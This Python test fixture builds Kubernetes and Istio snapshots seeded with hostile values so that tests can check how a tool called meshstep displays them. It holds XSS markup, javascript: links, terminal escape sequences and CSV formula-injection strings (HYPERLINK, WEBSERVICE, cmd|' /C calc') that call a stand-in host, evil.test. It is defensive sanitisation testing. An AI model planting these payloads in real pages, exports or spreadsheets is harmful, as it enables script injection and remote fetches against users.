"""A corpus of hostile values: the demo cluster with, for each payload class, a namespace `hostile-<class>` whose
objects carry that payload in every field meshstep shows (namespace revision label and annotation, the pods'
labels, annotations, sidecar.istio.io/status revision, container args and env, a VirtualService's hosts, header
match and destination host, a DestinationRule's host, the field manager that owns the namespace's revision label) —
and, for what people type, an actor, reason and plan name.

Every value names its field and class (`<class>.<field>`, the tag), so that a test can tell which fields a surface
showed, and what became of each. tests/app/test_hostile_content.py runs it through every command and page."""
from __future__ import annotations

import copy
import json
import os
import sys
from pathlib import Path
from typing import Any

import yaml

from cluster.files import YAML_LOADER
from cluster.sources import DEMO_DIR

EVIL = "evil.test"  # a host that must never be asked for anything
LONG = 100_000

# The classes the issue probed with; `{t}` is the tag. Each is markup, a fetch or a terminal escape if shown raw.
PAYLOADS = {
    "script": "<script>window.pwned='{t}'</script>",
    "img": "<img src=http://" + EVIL + "/{t}.png onerror=window.pwned=1>",
    "md-image": "![{t}](http://" + EVIL + "/{t}-md.png)",
    "md-link": "[{t}](javascript:alert(1)) [{t}-x](http://" + EVIL + "/{t}) http://" + EVIL + "/{t}-bare",
    "bold": "**{t}-bold** __{t}-under__",
    "formula": "$${t}^2$$ and $x_{{{t}}}$",
    "ansi": "\x1b[31m{t}-red\x1b[0m\x1b]0;{t}-title\x07\x1b[2K\r",
    "bidi": "\u202e{t}-rtl\u202c \u2066{t}-iso\u2069",
    # A value's newline must not start a line of what meshstep writes: the line after it could pass for meshstep's
    "newline": "{t}-first\n{t}-own-line\r\n\n✓ {t}-own-line",
    "long": "{t}-" + "A" * LONG,
}
# What a spreadsheet runs when a CSV cell starts with it (OWASP's CSV injection: `=`, `+`, `-`, `@`, tab, CR): the
# audit trail's CSV export carries what people typed (actor, reason). Each fetches or runs something if evaluated.
FORMULAS = ('=HYPERLINK("http://' + EVIL + '/{t}","audit")', "+1+cmd|' /C calc'!A0 {t}", "-2+3+cmd|' /C calc'!A0 {t}",
            '@SUM(1+1)*cmd|\' /C calc\'!A0 {t}', '\t=WEBSERVICE("http://' + EVIL + '/{t}")',
            '\r=IMPORTXML("http://' + EVIL + '/{t}","//a")')
# Where each payload is placed (the field names used in tags).
FIELDS = ("ns-rev", "ns-annotation", "pod-rev", "pod-label", "pod-annotation", "status-rev", "args", "env",
          "vs-host", "vs-header", "vs-dest", "dr-host", "manager", "actor", "reason")
TYPED = ("actor", "reason")  # what a user types (`flags set --actor --reason`), not the snapshot's
TEMPLATE_NS = "shop"
ROUTED = "frontend"  # the service of the corpus pod, whose mesh traffic no VirtualService of the template routes
# The demo's Istio (CRDs, istiod, its config), nodes and shop, the template: the rest would only add reading time.
DEMO_FILES = ("cluster", "config", "crds", "istio-system", TEMPLATE_NS)


def value(cls: str, field: str) -> str:
    """The hostile value of one class in one field."""
    return PAYLOADS[cls].format(t=tag(cls, field))


def tag(cls: str, field: str) -> str:
    return f"{cls}.{field}"


def namespace(cls: str) -> str:
    return f"hostile-{cls}"


def _objects(cls: str, demo: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The demo's shop namespace, copied into hostile-<cls> with the payload in every field; of its pods only the
    first injected one (the corpus stays a few megabytes), and a copy of it without its sidecar."""
    ns, out, pods = namespace(cls), [], 0
    for obj in demo:
        meta = obj.get("metadata") or {}
        if not (meta.get("namespace") == TEMPLATE_NS or (obj.get("kind") == "Namespace"
                                                         and meta.get("name") == TEMPLATE_NS)):
            continue
        if obj["kind"] == "Pod" and (pods or "sidecar.istio.io/status" not in (meta.get("annotations") or {})):
            continue
        pods += obj["kind"] == "Pod"
        obj = copy.deepcopy(obj)
        meta = obj["metadata"]
        meta["uid"] = f"{meta.get('uid', '')}-{cls}"
        if obj["kind"] == "Namespace":
            meta["name"] = ns
            meta["labels"] |= {"istio.io/rev": value(cls, "ns-rev"), "kubernetes.io/metadata.name": ns}
            meta["annotations"] = {"owner": value(cls, "ns-annotation")}
            # as `kubectl get -o yaml --show-managed-fields` shows it: a gate names who owns what a stage changes
            meta["managedFields"] = [{"apiVersion": "v1", "fieldsType": "FieldsV1", "manager": value(cls, "manager"),
                                      "operation": "Update", "time": "2026-02-05T13:58:20Z",
                                      "fieldsV1": {"f:metadata": {"f:labels": {"f:istio.io/rev": {}}}}}]
        else:
            meta["namespace"] = ns
        if obj["kind"] == "Pod":
            _pod(obj, cls)
            out.append(_without_sidecar(obj, cls))
        out.append(obj)
    out += [{"apiVersion": "networking.istio.io/v1", "kind": "VirtualService",
             "metadata": {"name": "hostile", "namespace": ns},
             "spec": {"hosts": [value(cls, "vs-host")],
                      "http": [{"match": [{"headers": {"x-hostile": {"exact": value(cls, "vs-header")}}}],
                                "route": [{"destination": {"host": value(cls, "vs-dest")}}]}]}},
            # Routes for a real service to a host that does not exist: the steps that extend them (timeouts and
            # retries) are left out of a plan with the IST0101 that quotes the host.
            {"apiVersion": "networking.istio.io/v1", "kind": "VirtualService",
             "metadata": {"name": "hostile-routes", "namespace": ns},
             "spec": {"hosts": [ROUTED], "http": [{"route": [{"destination": {"host": value(cls, "vs-dest")}}]}]}},
            {"apiVersion": "networking.istio.io/v1", "kind": "DestinationRule",
             "metadata": {"name": "hostile", "namespace": ns},
             "spec": {"host": value(cls, "dr-host"), "subsets": [{"name": "v1", "labels": {"version": "v1"}}]}}]
    return out


def _pod(pod: dict[str, Any], cls: str) -> None:
    meta = pod["metadata"]
    meta["name"] = pod_name(cls)
    meta["labels"] = (meta.get("labels") or {}) | {"istio.io/rev": value(cls, "pod-rev"),
                                                   "hostile": value(cls, "pod-label")}
    annotations = meta.setdefault("annotations", {})
    annotations["meshstep.test/note"] = value(cls, "pod-annotation")
    if "sidecar.istio.io/status" in annotations:
        status = json.loads(annotations["sidecar.istio.io/status"])
        annotations["sidecar.istio.io/status"] = json.dumps(status | {"revision": value(cls, "status-rev")})
    app = pod["spec"]["containers"][0]
    app["args"] = [*app.get("args", []), value(cls, "args")]
    app["env"] = [*app.get("env", []), {"name": "HOSTILE", "value": value(cls, "env")}]


def _without_sidecar(pod: dict[str, Any], cls: str) -> dict[str, Any]:
    """The pod as it was before injection, named plain-<cls>: why it is out of the mesh names its istio.io/rev."""
    pod = copy.deepcopy(pod)
    pod["metadata"]["name"] = f"plain-{cls}"
    pod["metadata"]["uid"] += "-plain"
    del pod["metadata"]["annotations"]["sidecar.istio.io/status"]
    for key in ("containers", "initContainers"):
        pod["spec"][key] = [c for c in pod["spec"].get(key, []) if not c["name"].startswith("istio-")]
    return pod


def pod_name(cls: str) -> str:
    """The name of the one pod of a class's namespace (its own in the corpus, so that a search finds it)."""
    return f"{_template_pod()}-{cls}"


def _template_pod() -> str:
    demo = [d for d in yaml.load_all((DEMO_DIR / f"{TEMPLATE_NS}.yaml").read_text(), Loader=YAML_LOADER) if d]
    return next(o["metadata"]["name"] for o in demo
                if o["kind"] == "Pod" and "sidecar.istio.io/status" in o["metadata"].get("annotations", {}))


def write_snapshots(directory: Path) -> tuple[Path, dict[str, Path]]:
    """Snapshots in `directory`: `all`, the demo's Istio and shop with every class's namespace (hostile.yaml); and
    one per class with only its own namespace, for the commands that show one namespace (quicker to read)."""
    demo = {name: (DEMO_DIR / f"{name}.yaml").read_text() for name in DEMO_FILES}
    objects = [d for text in demo.values() for d in yaml.load_all(text, Loader=YAML_LOADER) if d]
    hostile = {cls: _objects(cls, objects) for cls in PAYLOADS}
    dirs = {}
    for name, classes in (("all", list(PAYLOADS)), *((cls, [cls]) for cls in PAYLOADS)):
        dirs[name] = directory / name
        dirs[name].mkdir(parents=True, exist_ok=True)
        for file, text in demo.items():
            (dirs[name] / f"{file}.yaml").write_text(text)
        (dirs[name] / "hostile.yaml").write_text(yaml.safe_dump_all([o for c in classes for o in hostile[c]],
                                                                   sort_keys=False))
    return dirs.pop("all"), dirs


def cases() -> list[tuple[str, str]]:
    """Every (class, field) placed."""
    return [(c, f) for c in PAYLOADS for f in FIELDS]


# Written by run_commands() after each command, on stdout and stderr, with its exit status.
SEPARATOR = "\n@@ meshstep corpus: exit {} @@\n"

if __name__ == "__main__":  # python -m tests.hostile FILE, FILE a JSON list of argv: one process runs them all
    from app.cli import main

    for argv in json.loads(Path(sys.argv[1]).read_text()):
        code = main(argv)
        sys.stdout.flush()
        sys.stderr.flush()
        for fd in (1, 2):
            os.write(fd, SEPARATOR.format(code).encode())
